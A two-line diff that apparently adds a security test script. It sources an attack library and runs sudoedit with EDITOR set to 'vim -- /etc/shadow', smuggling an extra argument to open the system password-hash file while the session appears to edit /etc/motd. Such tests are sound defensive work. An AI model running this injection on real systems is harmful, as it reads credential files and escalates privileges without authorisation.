@@ -1,0 +1,2 @@
+. "$ATTACKS/lib.sh"
+EDITOR='vim -- /etc/shadow' as sudoedit nothing -- /etc/motd
